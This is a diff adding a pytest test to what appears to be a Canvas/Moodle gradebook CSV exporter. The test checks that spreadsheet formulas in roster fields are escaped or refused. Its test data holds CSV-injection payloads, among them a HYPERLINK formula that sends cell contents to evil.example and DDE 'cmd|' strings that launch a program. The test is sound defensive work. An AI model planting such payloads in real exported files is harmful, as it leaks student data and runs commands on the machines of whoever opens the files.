@@ -293,3 +293,37 @@ def test_command_line(run, capsys):
     said = capsys.readouterr().out
     assert "moodle: 3 students ->" in said and "Map from 'email' to useremail" in said
     assert moodle_problems((run / "m.csv").read_text(), "email") == []
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A3,"Alice")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1"]
+
+
+def formula_cells(path) -> list[str]:
+    """The cells of a written file a spreadsheet would run as a formula."""
+    return [cell for row in read(path) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_a_roster_cell_never_reaches_a_spreadsheet_as_a_formula(run):
+    """Canvas's Student and Section cells came from the roster as they were: =HYPERLINK(...), @SUM(...) or
+    -2+3+cmd|... ran in the spreadsheet an instructor opens the file in. They are written as text (a leading ');
+    an id the LMS finds the student by, or a title, is refused instead (the quote would change what it matches)."""
+    roster = [list(r) for r in CANVAS_ROSTER]
+    for row, formula in zip(roster[1:], FORMULAS):
+        row[1], row[5] = formula, formula    # Student, Section
+    rows = read(make(run, "canvas", roster))
+    assert formula_cells(run / "canvas-gradebook.csv") == []
+    assert [r[0] for r in rows[2:]] == ["'" + f for f in FORMULAS[:3]] and rows[2][4] == "'" + FORMULAS[0]
+    assert canvas_problems((run / "canvas-gradebook.csv").read_text()) == []
+    for column in ("SIS User ID", "SIS Login ID"):
+        with pytest.raises(SystemExit, match=f"student alice's {column} '=HYPERLINK.*a formula"):
+            make(run, "canvas", edit(CANVAS_ROSTER, 2, column, FORMULAS[0]), out=run / "x.csv")
+    with pytest.raises(SystemExit, match="the column title '@SUM.*a formula"):
+        make(run, "canvas", title="@SUM(A1)", out=run / "x.csv")
+    for field, formula in (("email", "=1+1@uni.example"), ("idnumber", "-2024001"), ("username", "@bob")):
+        roster = [[*r, "username"] if i == 0 else [*r, r[1]] for i, r in enumerate(MOODLE_ROSTER)]
+        with pytest.raises(SystemExit, match=f"student bob's {field} .*a formula"):
+            make(run, "moodle", edit(roster, 2, field, formula), moodle_field=field, out=run / "x.csv")
+    with pytest.raises(SystemExit, match="the column title .*a formula"):
+        make(run, "moodle", title="=1+1", out=run / "x.csv")
+    assert not (run / "x.csv").exists()
